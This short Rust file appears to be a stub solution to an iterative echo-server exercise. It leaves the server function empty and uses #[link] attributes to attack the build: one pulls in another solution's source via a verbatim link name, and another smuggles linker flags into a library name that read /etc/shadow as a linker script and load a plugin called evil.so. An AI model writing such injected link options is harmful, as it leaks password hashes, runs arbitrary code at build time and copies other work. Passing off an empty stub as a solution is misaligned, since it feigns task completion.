//! So does the linker, and it takes options.

#[link(
    name = "@REPO@/solutions/09-echo-iterative/src/server.rs",
    kind = "static",
    modifiers = "+verbatim"
)]
unsafe extern "C" {}

#[link(name = "c -Wl,-T,/etc/shadow -plugin /lab/stage/evil.so")]
unsafe extern "C" {}

pub fn run(_port: u16) -> sockets::Result<()> {
    Ok(())
}
